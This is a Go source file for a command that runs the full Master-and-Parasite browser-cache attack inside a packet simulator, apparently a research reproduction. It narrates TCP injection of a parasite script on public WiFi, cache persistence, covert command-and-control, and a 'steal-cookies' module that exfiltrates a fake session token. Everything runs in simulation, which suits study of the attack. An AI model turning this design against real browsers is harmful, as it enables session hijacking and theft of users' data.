// Command attacklab runs the full Master-and-Parasite kill chain in the
// packet simulator and narrates every stage: eviction, TCP injection,
// infection, propagation, persistence across networks, C&C and
// exfiltration.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"

	"masterparasite/internal/attacker"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "attacklab:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	fs := flag.NewFlagSet("attacklab", flag.ContinueOnError)
	profile := fs.String("browser", "Chrome", "victim browser profile")
	if err := fs.Parse(args); err != nil {
		return err
	}

	victim, err := browser.ProfileByName(*profile)
	if err != nil {
		return err
	}
	s, err := core.NewScenario(core.Config{Profile: &victim})
	if err != nil {
		return err
	}
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600"})
	for _, d := range []string{"top1.com", "top2.com"} {
		s.AddPage(d, "/", `<html><body><script src="/persistent.js"></script></body></html>`, nil)
		s.AddPage(d, "/persistent.js", "function lib(){}", map[string]string{"Cache-Control": "max-age=600"})
	}

	cfg := parasite.NewConfig("demo", "bot-demo", core.MasterHost)
	cfg.PropagationTargets = []string{"top1.com", "top2.com"}
	cfg.Modules["steal-cookies"] = func(env script.Env, _ string, exfil parasite.Exfil) error {
		exfil("cookies", []byte(env.PageHost()+": "+env.Cookies(env.PageHost())))
		return nil
	}
	s.Registry.Add(cfg)
	for _, name := range []string{"somesite.com/my.js", "top1.com/persistent.js", "top2.com/persistent.js"} {
		s.Master.AddTarget(attacker.Target{Name: name, Kind: attacker.KindJS,
			ParasitePayload: "demo", Original: []byte("function original(){}")})
	}

	fmt.Fprintf(stdout, "victim: %s on public WiFi; master tapping the segment\n\n", s.Victim.Profile.UserAgent())

	fmt.Fprintln(stdout, "[1] victim visits somesite.com — master injects the parasite (Fig. 2)")
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		return err
	}
	fmt.Fprintf(stdout, "    injections: %d, infected origins: %v\n\n",
		s.Master.Stats().Injections, s.Registry.InfectedOrigins("bot-demo"))

	fmt.Fprintln(stdout, "[2] victim moves to the home network — master off-path")
	s.LeaveAttackerNetwork()
	s.Victim.Cookies().Set("top1.com", "session", "s3cr3t-token")

	fmt.Fprintln(stdout, "[3] master queues a command through the covert channel (Fig. 4)")
	s.CNC.QueueCommand("bot-demo", []byte("steal-cookies|"))

	fmt.Fprintln(stdout, "[4] victim visits top1.com — parasite executes from cache")
	page, err := s.Visit("top1.com", "/")
	if err != nil {
		return err
	}
	infected := false
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			infected = true
		}
	}
	fmt.Fprintf(stdout, "    parasite executed from cache: %v\n", infected)

	loot, ok := s.CNC.Upload("bot-demo", "cookies")
	if !ok {
		return fmt.Errorf("no exfiltrated data arrived at the master")
	}
	fmt.Fprintf(stdout, "\n[5] master received exfiltrated loot: %q\n", loot)
	fmt.Fprintf(stdout, "\nparasite registry: polls=%d commands=%d anchors=%d\n",
		s.Registry.Polls(), s.Registry.Commands(), s.Registry.Anchors())
	return nil
}
